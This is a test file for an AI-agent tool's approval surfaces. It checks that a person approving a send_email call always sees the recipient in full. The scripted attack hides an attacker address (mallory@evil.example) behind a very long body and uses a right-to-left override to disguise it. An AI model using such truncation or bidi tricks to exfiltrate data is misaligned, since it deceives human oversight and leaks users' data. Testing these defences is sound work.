/**
 * Hardening: a person always sees what they approve. A model writes a long
 * `body` before `to` (canonical JSON sorts `body` first too), 400 characters
 * (past the old 200- and 300-character cuts) and 25,000 (past the console's
 * 20,000), and the recipient is the attacker's. Every surface where a person
 * decides must show that recipient whole: `toolwright approvals list`, the
 * terminal prompt, the console card in Chromium, MCP elicitation, the AI
 * SDK and OpenAI Agents approval bridges, and plan-then-execute's `confirm`. The full arguments are one step away
 * (`approvals show`, the card's "all arguments"), and a bidirectional override
 * in a value is shown as `⟨U+202E⟩`, never obeyed.
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';
import { Agent, run, setTracingDisabled } from '@openai/agents';
import { ScriptedModel, functionCall } from '@openai/agents/testing';
import { generateText, stepCountIs, type ModelMessage } from 'ai';
import { MockLanguageModelV4 } from 'ai/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMemoryRunStore, planThenExecute, runAgent, type AgentResult, type PlanConfirmation, type RunStore } from '../../src/agent/index.js';
import { createToolGuards } from '../../src/agent/tool-guards.js';
import { listApprovals, showApproval } from '../../src/cli/commands/approvals.js';
import { printLogs } from '../../src/cli/commands/logs.js';
import { settle, type AgentCliIo } from '../../src/cli/commands/run.js';
import { startConsole } from '../../src/cli/console/console-server.js';
import { toAISDKToolApproval, toAISDKTools } from '../../src/interop/ai-sdk/index.js';
import { openAIAgentsApprovalPrompt, toOpenAIAgentsTools } from '../../src/interop/openai-agents/index.js';
import { createMcpServer } from '../../src/mcp/index.js';
import { createScriptedModel, textTurn, toolCallTurn } from '../../src/models/scripted/scripted-model.js';
import { defineTool } from '../../src/tools/define-tool.js';
import { silentLogger } from '../../src/tools/tool-registry.js';
import { CHROMIUM, launchChromium } from '../fixtures/chromium.js';
import { structuredAnswersModel } from '../fixtures/structured-answers-model.js';

const ATTACKER = 'mallory@evil.example';
/** How the recipient must read on every surface: its name, then its value whole. */
const RECIPIENT_LINE = `to: "${ATTACKER}"`;
const BODY_LENGTHS = [400, 25_000] as const;

/** The model's arguments, the long body first (the order a model chose, and the order canonical JSON sorts them in). */
function mailArguments(bodyLength: number): { body: string; subject: string; to: string } {
  return { body: 'Please find the quarterly figures below. '.repeat(Math.ceil(bodyLength / 41)).slice(0, bodyLength), subject: 'Figures', to: ATTACKER };
}

function mailTool(sent: string[] = [], summarize?: (args: { body: string; subject: string; to: string }) => string) {
  return defineTool<{ body: string; subject: string; to: string }>({
    name: 'send_email',
    description: 'Sends an e-mail.',
    effect: 'write',
    confirm: true,
    ...(summarize ? { summarize } : {}),
    inputSchema: {
      type: 'object',
      properties: { body: { type: 'string' }, subject: { type: 'string' }, to: { type: 'string' } },
      required: ['body', 'subject', 'to'],
      additionalProperties: false,
    },
    execute: ({ to }) => {
      sent.push(to);
      return 'sent';
    },
  });
}

const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) rmSync(folder, { recursive: true, force: true });
});

/** What the CLI printed; with `answers`, a terminal whose person gives them in turn (the last one from then on). */
function capture(...answers: string[]): { io: AgentCliIo; text: () => string; questions: string[] } {
  const chunks: string[] = [];
  const questions: string[] = [];
  const io: AgentCliIo = { out: (text) => chunks.push(text), err: (text) => chunks.push(text) };
  if (answers.length > 0) {
    io.ask = async () => {
      // What the person had read when asked: everything printed so far.
      questions.push(chunks.join(''));
      return answers[Math.min(questions.length, answers.length) - 1]!;
    };
  }
  return { io, text: () => chunks.join(''), questions };
}

async function pausedMailRun(args: object, storage: { store: RunStore } | { statePath: string; recordDir?: string }) {
  const model = createScriptedModel([toolCallTurn([{ id: 'c1', name: 'send_email', arguments: args }]), textTurn('Not sent.')]);
  const runtime = { model, tools: [mailTool()], logger: silentLogger, ...storage };
  const paused = await runAgent({ ...runtime, prompt: 'Send the figures to the team.' });
  expect(paused.status).toBe('awaiting_confirmation');
  return { runtime, paused: paused as Extract<AgentResult, { status: 'awaiting_confirmation' }> };
}

describe('the hidden-recipient case on every approval surface', { timeout: 60_000 }, () => {
  for (const bodyLength of BODY_LENGTHS) {
    describe(`a ${bodyLength}-character body before the attacker's "to"`, () => {
      it('toolwright approvals list shows the recipient whole, and approvals show prints every argument', async () => {
        const folder = mkdtempSync(join(tmpdir(), 'tw-summary-cli-'));
        folders.push(folder);
        const state = join(folder, 'state.db');
        const args = mailArguments(bodyLength);
        const { paused } = await pausedMailRun(args, { statePath: state });
        const list = capture();
        await listApprovals({ state }, list.io);
        expect(list.text()).toContain(RECIPIENT_LINE);
        expect(list.text()).toContain(`toolwright approvals show ${paused.pending[0]!.approvalId}`);
        // What was cut says so, with the count.
        expect(list.text()).toMatch(/… \(\d+ more characters\)/);
        const show = capture();
        await showApproval(paused.pending[0]!.approvalId, { state }, show.io);
        expect(show.text()).toContain(JSON.stringify(args.body));
        expect(show.text()).toContain(JSON.stringify(ATTACKER));
      });

      it('the terminal prompt shows the recipient before it asks, and every argument on "a"', async () => {
        const args = mailArguments(bodyLength);
        const { runtime, paused } = await pausedMailRun(args, { store: createMemoryRunStore() });
        const terminal = capture('a', 'n');
        const settled = await settle(paused, runtime, {}, terminal.io);
        expect(terminal.questions).toHaveLength(2);
        expect(terminal.questions[0]).toContain(RECIPIENT_LINE);
        expect(terminal.questions[0]).not.toContain(JSON.stringify(args.body));
        expect(terminal.questions[1]).toContain(JSON.stringify(args.body));
        expect(settled.status).toBe('completed');
      });

      it('MCP elicitation asks with the recipient in the message', async () => {
        const sent: string[] = [];
        const server = createMcpServer([mailTool(sent)], { logger: silentLogger });
        const client = new Client({ name: 'summary-test', version: '1.0.0' }, { capabilities: { elicitation: { form: {} } } });
        const messages: string[] = [];
        client.setRequestHandler(ElicitRequestSchema, (request) => {
          messages.push(request.params.message);
          return { action: 'decline' };
        });
        const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
        await server.connect(serverSide);
        await client.connect(clientSide);
        try {
          await client.callTool({ name: 'send_email', arguments: mailArguments(bodyLength) });
          expect(messages).toHaveLength(1);
          expect(messages[0]).toContain(RECIPIENT_LINE);
          expect(sent).toEqual([]);
        } finally {
          await client.close();
        }
      });

      it("an MCP server's confirmation handler gets the same prompt", async () => {
        const prompts: string[] = [];
        const server = createMcpServer([mailTool()], {
          logger: silentLogger,
          confirmation: async (request) => {
            prompts.push(request.prompt);
            return { approved: false };
          },
        });
        const client = new Client({ name: 'summary-test', version: '1.0.0' });
        const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
        await server.connect(serverSide);
        await client.connect(clientSide);
        try {
          await client.callTool({ name: 'send_email', arguments: mailArguments(bodyLength) });
          expect(prompts).toHaveLength(1);
          expect(prompts[0]).toContain(RECIPIENT_LINE);
        } finally {
          await client.close();
        }
      });

      it("the AI SDK's approval request carries the recipient in its reason", async () => {
        const guards = createToolGuards({ tools: [mailTool()] });
        const model = new MockLanguageModelV4({
          doGenerate: {
            content: [{ type: 'tool-call', toolCallId: 'c1', toolName: 'send_email', input: JSON.stringify(mailArguments(bodyLength)) }],
            finishReason: { unified: 'tool-calls', raw: 'tool_calls' },
            usage: {
              inputTokens: { total: 10, noCache: 10, cacheRead: undefined, cacheWrite: undefined },
              outputTokens: { total: 5, text: 5, reasoning: undefined },
            },
            warnings: [],
          },
        });
        const messages: ModelMessage[] = [{ role: 'user', content: 'Send the figures.' }];
        const result = await generateText({
          model,
          tools: toAISDKTools(guards),
          toolApproval: toAISDKToolApproval(guards),
          messages,
          stopWhen: stepCountIs(2),
        });
        const request = result.content.find((part) => part.type === 'tool-approval-request');
        expect(request?.reason).toContain(RECIPIENT_LINE);
      });

      it("plan-then-execute's confirm gets the recipient in its prompt, even under a summarize that leads with the body", async () => {
        const args = mailArguments(bodyLength);
        for (const summarize of [undefined, ({ body }: { body: string }) => `Send this text: ${body}`]) {
          const sent: string[] = [];
          const asked: PlanConfirmation[] = [];
          const result = await planThenExecute({
            planner: structuredAnswersModel([{ calls: [{ tool: 'send_email', arguments: args }], holes: [], answer: 'Sent.' }]),
            tools: [mailTool(sent, summarize)],
            prompt: 'Send the figures to the team.',
            confirm: (request) => (asked.push(request), false),
          });
          expect(result.status).toBe('completed');
          expect(asked).toHaveLength(1);
          // The line a custom summarize writes is cut at 300 characters: the recipient is gone from it, not from the prompt.
          if (summarize) expect(asked[0]!.summary).not.toContain(ATTACKER);
          expect(asked[0]!.prompt).toContain(RECIPIENT_LINE);
          expect(asked[0]!.prompt).toMatch(/… \(\d+ more characters\)/);
          expect(asked[0]!.argumentsSummary.decisive).toEqual([{ path: 'to', text: JSON.stringify(ATTACKER), omittedChars: 0 }]);
          expect(sent).toEqual([]);
        }
      });

      it('the OpenAI Agents interruption is described with the recipient', async () => {
        setTracingDisabled(true);
        const guards = createToolGuards({ tools: [mailTool()] });
        const model = new ScriptedModel([[functionCall('send_email', mailArguments(bodyLength), { callId: 'c1' })]]);
        const first = await run(new Agent({ name: 'mail', tools: await toOpenAIAgentsTools(guards), model }), 'Send the figures.');
        expect(first.interruptions).toHaveLength(1);
        expect(await openAIAgentsApprovalPrompt(guards, first.interruptions[0]!)).toContain(RECIPIENT_LINE);
      });
    });
  }
});

describe('invisible characters in the terminal', () => {
  it('toolwright approvals list, show and the terminal prompt write a right-to-left override as ⟨U+202E⟩', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'tw-summary-bidi-'));
    folders.push(folder);
    const state = join(folder, 'state.db');
    const runs = join(folder, 'runs');
    const args = { body: 'Hi\u200B', subject: 'Figures', to: 'mallory@\u202Emoc.elpmaxe' };
    const { runtime, paused } = await pausedMailRun(args, { statePath: state, recordDir: runs });
    const printed = capture();
    await listApprovals({ state }, printed.io);
    await listApprovals({ state, json: true }, printed.io);
    await showApproval(paused.pending[0]!.approvalId, { state }, printed.io);
    await printLogs(paused.runId, { runs, state }, printed.io);
    await printLogs(paused.runId, { runs, state, json: true }, printed.io);
    const terminal = capture('n');
    await settle(paused, runtime, {}, terminal.io);
    for (const text of [printed.text(), terminal.text()]) {
      expect(text).toMatch(/mallory@(⟨U\+202E⟩|\\u202e)moc\.elpmaxe/);
      expect(text).not.toMatch(/[\u200B\u202E]/);
    }
    expect(printed.text()).toContain('to: "mallory@⟨U+202E⟩moc.elpmaxe"');
    expect(terminal.text()).toContain('to: "mallory@⟨U+202E⟩moc.elpmaxe"');
  });

  it('MCP elicitation writes it as ⟨U+202E⟩ too', async () => {
    const server = createMcpServer([mailTool()], { logger: silentLogger });
    const client = new Client({ name: 'summary-test', version: '1.0.0' }, { capabilities: { elicitation: { form: {} } } });
    const messages: string[] = [];
    client.setRequestHandler(ElicitRequestSchema, (request) => {
      messages.push(request.params.message);
      return { action: 'decline' };
    });
    const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
    await server.connect(serverSide);
    await client.connect(clientSide);
    try {
      await client.callTool({ name: 'send_email', arguments: { body: 'Hi', subject: 'Figures', to: 'mallory@\u202Emoc.elpmaxe' } });
      expect(messages[0]).toContain('to: "mallory@⟨U+202E⟩moc.elpmaxe"');
      expect(messages[0]).not.toContain('\u202E');
    } finally {
      await client.close();
    }
  });
});

describe("plan-then-execute's confirm and invisible characters", () => {
  it('writes a right-to-left override in the prompt and the structured arguments as ⟨U+202E⟩', async () => {
    const asked: PlanConfirmation[] = [];
    const args = { body: 'Hi\u200B', subject: 'Figures', to: 'mallory@\u202Emoc.elpmaxe' };
    await planThenExecute({
      planner: structuredAnswersModel([{ calls: [{ tool: 'send_email', arguments: args }], holes: [], answer: 'Sent.' }]),
      tools: [mailTool()],
      prompt: 'Send the figures to the team.',
      confirm: (request) => (asked.push(request), false),
    });
    expect(asked[0]!.prompt).toContain('to: "mallory@⟨U+202E⟩moc.elpmaxe"');
    expect(asked[0]!.prompt).not.toMatch(/[\u200B\u202E]/);
    expect(asked[0]!.argumentsSummary.decisive[0]!.text).toBe('"mallory@⟨U+202E⟩moc.elpmaxe"');
  });
});

describe.skipIf(!existsSync(CHROMIUM))(`the console card in headless Chromium (skipped: no Chromium at ${CHROMIUM})`, { timeout: 120_000 }, () => {
  let profile: string;
  beforeAll(() => {
    profile = mkdtempSync(join(tmpdir(), 'tw-chromium-summary-'));
    folders.push(profile);
  });

  it('shows the recipient whole for a 400- and a 25,000-character body, all arguments one click away, and a bidi override as ⟨U+202E⟩', async () => {
    const store = createMemoryRunStore();
    const runsDir = mkdtempSync(join(tmpdir(), 'tw-summary-runs-'));
    folders.push(runsDir);
    const approvals: { id: string; args: ReturnType<typeof mailArguments> }[] = [];
    for (const bodyLength of BODY_LENGTHS) {
      const args = mailArguments(bodyLength);
      const { paused } = await pausedMailRun(args, { store });
      approvals.push({ id: paused.pending[0]!.approvalId, args });
    }
    // A recipient that a right-to-left override would make read as "mallory@example.com".
    const reversed = { body: 'Hi', subject: 'Figures', to: `mallory@\u202Emoc.elpmaxe` };
    const { paused: bidi } = await pausedMailRun(reversed, { store });
    const console = await startConsole({ store, runsDir });
    const context = await launchChromium(profile);
    try {
      const page = context.pages()[0] ?? (await context.newPage());
      await page.goto(console.url, { waitUntil: 'load' });
      await page.goto(`${console.origin}/approvals`, { waitUntil: 'load' });
      for (const { id, args } of approvals) {
        const card = page.locator(`section.approval[data-approval-id="${id}"]`);
        const shown = await card.locator('dl.arguments').innerText();
        expect(shown).toContain('to');
        expect(shown).toContain(JSON.stringify(ATTACKER));
        expect(await card.locator('dl.arguments dt.decisive').allInnerTexts()).toEqual(['to']);
        // Every argument is one click away, the body whole (arguments are at most the registry's 1,000,000 characters).
        await card.locator('details.all-arguments summary').click();
        expect(await card.locator('details.all-arguments pre').innerText()).toContain(args.body);
      }
      const shots = join(process.cwd(), '.cache', 'console-screenshot');
      mkdirSync(shots, { recursive: true });
      writeFileSync(join(shots, 'approval-summary.png'), await page.screenshot({ fullPage: false }));
      const bidiCard = page.locator(`section.approval[data-approval-id="${bidi.pending[0]!.approvalId}"]`);
      expect(await bidiCard.locator('dl.arguments').innerText()).toContain('mallory@⟨U+202E⟩moc.elpmaxe');
      expect(await bidiCard.innerText()).not.toContain('\u202E');
    } finally {
      await context.close();
      await console.close();
    }
  });
});
